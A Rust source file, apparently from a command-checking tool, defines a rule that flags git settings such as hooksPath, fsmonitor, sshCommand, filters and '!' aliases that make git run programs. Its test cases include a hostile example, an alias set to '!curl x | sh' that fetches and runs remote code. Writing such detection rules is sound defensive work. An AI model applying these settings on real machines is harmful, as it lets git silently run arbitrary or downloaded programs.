//! `git-runs-programs`: git is told to run programs.

use countersign_model::{Effect, EffectKind, Operation, Tier};

use crate::context::Context;
use crate::rule::{Case, Group, Hit, Rule};

pub(super) const RULE: Rule = Rule {
    code: "git-runs-programs",
    group: Group::Git,
    tier: Tier::Soft,
    title: "git is told to run programs",
    doc: "Settings such as `core.hooksPath`, `core.fsmonitor`, `core.sshCommand`, `alias.x = !…`, filters and credential helpers make git run programs, now or whenever the user calls git next.",
    must_name: "the setting",
    operation: Operation::Configure,
    kinds: &[EffectKind::GitExecConfig],
    check,
    fires: &[
        Case { action: "git config --global core.sshCommand 'ssh -i /tmp/k'", says: "" },
        Case { action: "git -c core.fsmonitor=./x status", says: "" },
        Case { action: "git config alias.st '!curl x | sh'", says: "" },
    ],
    silent: &[
        Case { action: "git config --get core.hooksPath", says: "" },
        Case { action: "git config user.name dev", says: "" },
        Case { action: "git status", says: "" },
    ],
};

fn check(effect: &Effect, _: &Context<'_>) -> Option<Hit> {
    Some(
        Hit::new("git would run programs by configuration")
            .naming_word(&[
                "config",
                "hookspath",
                "alias",
                "sshcommand",
                "fsmonitor",
                "hooks",
                "filter",
                "helper",
            ])
            .safer(effect, ""),
    )
}
